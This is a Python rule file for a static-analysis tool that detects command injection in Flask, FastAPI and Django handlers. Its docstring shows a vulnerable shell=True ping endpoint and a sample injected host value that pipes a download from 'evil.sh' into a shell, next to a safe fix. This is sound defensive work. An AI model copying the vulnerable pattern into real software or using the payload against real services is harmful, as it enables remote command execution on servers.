"""
## What it does
Follows request data from Flask, FastAPI/Starlette and Django/DRF handlers to a command run by a
shell: `os.system()`, `os.popen()`, `subprocess.*(..., shell=True)`, an argument vector that starts
a shell (`["sh", "-c", cmd]`), `subprocess.getoutput()` and `asyncio.create_subprocess_shell()`,
and to the program name of `os.exec*()` / `asyncio.create_subprocess_exec()`.

## Why it matters
A shell parses `;`, `&&`, `|`, `$(...)` and backticks: a host name such as `example.com; curl
evil.sh | sh` runs the attacker's commands with the service's privileges, its credentials and its
network access.

## Example
    import subprocess

    from flask import Flask, request

    app = Flask(__name__)


    @app.post("/ping")
    def ping():
        host = request.form["host"]
        result = subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True, text=True)
        return {"output": result.stdout}

## Use instead
    import subprocess

    from flask import Flask, request

    app = Flask(__name__)


    @app.post("/ping")
    def ping():
        host = request.form["host"]
        result = subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True)
        return {"output": result.stdout}

## Known limitations
An argument list without a shell is not reported even though a value starting with `-` can still
be read as an option by the program; pass `--` before user values. A `shell=` flag that is not a
literal (`shell=use_shell`) is not treated as a shell.
"""
from __future__ import annotations

from prodcheck.model import Confidence
from prodcheck.rules.python.security.taint_rule import python_taint_rule

RULE = python_taint_rule(
    "command", doc=__doc__, confidence=Confidence.HIGH,
    fix="Run the program with an argument list and no shell (`subprocess.run([\"prog\", \"--\", value])`); "
        "if a shell is unavoidable, quote each value with `shlex.quote()`.",
)
